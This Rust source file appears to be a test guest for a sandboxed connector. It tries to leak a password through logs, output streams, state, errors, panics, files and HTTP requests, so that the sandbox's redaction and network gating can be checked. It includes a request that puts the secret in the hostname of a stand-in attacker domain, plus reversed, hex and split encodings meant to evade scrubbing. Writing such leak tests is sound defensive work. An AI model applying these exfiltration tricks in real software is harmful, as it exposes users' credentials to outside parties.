//! A secret, through every channel that leads out of the sandbox.

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use serde_json::json;

use crate::bindings::ow::connector::report::{self, Level};
use crate::bindings::ow::connector::state;
use crate::bindings::ow::connector::types::{Error, ErrorKind};
use crate::rows::saw;
use crate::{Outcome, Parameters, net, plain};

/// What the guest has of the secret is `Password`.
pub(crate) fn leak(case: &str, p: &Parameters) -> Outcome {
    let secret = p.text("Password");
    let send = |url: &str, extra: serde_json::Value| {
        let answer = net::send(&Parameters::of(extra), "GET", url);
        saw(case, &answer.unwrap_or_else(|error| format!("refused: {error}")))
    };
    let header = |name: &str, text: &str| json!({ "Headers": [{ "Name": name, "Text": text }] });
    match case {
        "log" => {
            report::log(Level::Info, &secret, &[(secret.clone(), secret.clone())]);
            println!("{secret}");
            eprintln!("{secret}");
            report::progress(1, None, &secret);
            Ok(())
        }
        "row" => saw("row", &secret),
        "state" => state::set(&secret, &format!("\"{secret}\"")),
        "error" => Err(Error { parameter: Some(secret.clone()), ..plain(ErrorKind::Auth, &secret) }),
        "panic" => panic!("{secret}"),
        "file" => {
            std::fs::write("/in/leaked.txt", &secret).unwrap();
            std::fs::write(format!("/in/{secret}"), "").unwrap();
            Ok(())
        }
        "stream_name" => crate::rows::write(&Parameters::of(json!({ "Stream": secret }))),
        // To where nothing is granted: in the name of the host, in the path.
        "other_origin" => {
            send(&format!("{}/?key={secret}", p.text("Forbidden")), header("authorization", &secret))?;
            send(&format!("http://{secret}.evil.example/"), json!({}))
        }
        // The gate puts the secret into values, not into names.
        "header_name" => send(&format!("{}/", p.text("Server")), header(&secret, "1")),
        // Encoded, it is no placeholder any more, and worth nothing.
        "encoded" => {
            let reversed: String = secret.chars().rev().collect();
            let hex: String = secret.bytes().map(|byte| format!("{byte:02x}")).collect();
            let split: Vec<&str> = vec![&secret[..10], &secret[10..]];
            for text in [reversed, hex, secret.to_lowercase(), split.join(".")] {
                report::log(Level::Info, &text, &[]);
                send(&format!("{}/?key={text}", p.text("Server")), header("x-key", &text))?;
            }
            Ok(())
        }
        other => panic!("there is no case {other}"),
    }
}

/// To a server that was granted for other things: in the address, in a header, in
/// the path, as `Basic` and in a body.
pub(crate) fn to_another_origin(p: &Parameters) -> Outcome {
    let (secret, server) = (p.text("Password"), p.text("Server"));
    let basic = BASE64_STANDARD.encode(format!("user:{secret}"));
    let header = |name: &str, text: &str| json!({ "Headers": [{ "Name": name, "Text": text }] });
    let requests = [
        ("query", "GET", format!("{server}/?key={secret}"), json!({})),
        ("path", "GET", format!("{server}/{secret}"), json!({})),
        ("header", "GET", format!("{server}/"), header("x-key", &secret)),
        ("basic", "GET", format!("{server}/"), header("authorization", &format!("Basic {basic}"))),
        (
            "body",
            "POST",
            format!("{server}/"),
            json!({
                "Headers": [{ "Name": "content-type", "Text": "application/json" }],
                "Body": format!(r#"{{"key":"{secret}"}}"#),
            }),
        ),
    ];
    for (name, method, url, extra) in requests {
        let answer = net::send(&Parameters::of(extra), method, &url);
        saw(name, &answer.unwrap_or_else(|error| format!("refused: {error}")))?;
    }
    Ok(())
}

/// A server that was granted sends the secret back, and the guest hands it on.
pub(crate) fn echoed(p: &Parameters) -> Outcome {
    let extra = json!({ "Headers": [{ "Name": "x-key", "Text": p.text("Password") }] });
    let answer = net::send(&Parameters::of(extra), "GET", &format!("{}/echo", p.text("Server")));
    let secret = answer.unwrap();
    report::log(Level::Info, &secret, &[]);
    println!("{secret}");
    eprintln!("{}", secret.replace('/', "%2F").replace('+', "%2B").replace('=', "%3D"));
    Err(plain(ErrorKind::Auth, &format!("the source said {secret}")))
}
